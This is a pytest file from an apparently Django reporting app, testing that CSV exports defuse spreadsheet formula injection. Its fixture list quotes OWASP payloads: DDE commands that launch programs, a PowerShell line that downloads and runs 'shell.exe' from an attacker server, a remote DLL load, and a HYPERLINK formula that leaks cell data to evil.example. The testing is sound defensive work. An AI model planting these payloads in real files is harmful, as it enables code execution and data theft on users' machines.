"""CSV downloads follow OWASP's rule against CSV injection: a cell that starts, after any
leading spaces, with =, +, -, @, a tab or a carriage return gets a leading ' unless it is
strictly a number. Checked with OWASP's payloads, in the Python writer and in the drop-off
list's PostgreSQL COPY path (run this file with DATABASE_URL=postgres://… for the latter)."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group, User

from journeys.reports.csv_cells import safe_cell
from journeys.reports.export import to_csv

# https://owasp.org/www-community/attacks/CSV_Injection and the bypasses.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for information")',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "-1 +cmd|' /C calc'!A0",
    '+1 +HYPERLINK("http://evil.example","Click")',
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "   =1+2",
    " @SUM(1+1)",
    "1e3 ",  # not a formula: left alone
]
NUMBERS = ["-1", "+3.5", "-0.5e3", "42", "  -7", ".5", "-.25E-2"]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS[:-1])
def test_every_owasp_payload_becomes_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("number", NUMBERS)
def test_a_number_stays_a_number(number):
    assert safe_cell(number) == number


def test_ordinary_text_is_left_alone():
    assert [safe_cell(cell) for cell in ["Ada", "1e3 ", "", "Step 2", "12 %"]] == [
        "Ada",
        "1e3 ",
        "",
        "Step 2",
        "12 %",
    ]


def test_a_report_table_guards_its_header_and_cells():
    text = to_csv(["=Step"], [["-1 +cmd|' /C calc'!A0"], ["-3"]])

    assert list(csv.reader(io.StringIO(text))) == [["'=Step"], ["'-1 +cmd|' /C calc'!A0"], ["-3"]]


@pytest.fixture
def named_after_payloads(trial, contact_on_path, send_event, run_worker):
    """One contact waiting at "Wait upload" per payload, as first name and user id."""
    contacts = [
        contact_on_path(0, prefix=f"p{i}-", first_name=payload)
        for i, payload in enumerate(OWASP_PAYLOADS + NUMBERS)
    ]
    for contact in contacts:
        send_event(contact, "Signed Up")
    run_worker()
    return contacts


def test_the_drop_off_csv_quotes_every_payload_on_every_database(named_after_payloads, client):
    viewer = User.objects.create_user("rita", is_staff=True)
    viewer.groups.add(Group.objects.get(name="Report viewers"))
    client.force_login(viewer)

    response = client.get("/admin/reports/trial/steps/wait_upload/contacts.csv?which=waiting")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    first_names = sorted(row[0] for row in rows[1:])
    assert first_names == sorted(safe_cell(value) for value in OWASP_PAYLOADS + NUMBERS)
    assert sum(name.startswith("'") for name in first_names) == len(OWASP_PAYLOADS) - 1
